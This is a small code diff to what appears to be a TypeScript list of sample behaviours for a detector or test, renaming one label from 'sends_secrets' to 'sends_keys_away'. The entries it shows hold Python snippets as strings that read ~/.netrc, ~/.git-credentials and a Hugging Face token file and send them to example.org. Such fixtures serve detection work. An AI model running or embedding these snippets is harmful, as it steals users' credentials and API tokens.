@@ -130,7 +130,7 @@ export const ACTS_TO_FIND: readonly ToFind[] = [
     'import requests\nfrom pathlib import Path\nfor n in (".netrc", ".git-credentials"):\n    p = Path.home() / n\n    if p.exists():\n        requests.put("https://example.org", data=p.read_bytes())\n',
   ],
   [
-    'sends_secrets',
+    'sends_keys_away',
     'the token of a hub',
     'import os, requests\nt = open(os.path.expanduser("~/.cache/huggingface/token")).read()\nrequests.get("https://example.org/?t=" + t)\n',
   ],
